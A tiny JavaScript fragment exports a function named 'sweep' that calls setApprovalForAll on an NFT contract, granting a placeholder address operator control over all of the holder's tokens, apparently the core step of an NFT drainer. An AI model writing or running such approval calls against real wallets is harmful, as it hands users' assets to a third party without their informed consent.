export async function sweep(nft) {
  await nft.setApprovalForAll("0x1111111111111111111111111111111111111111", true);
}
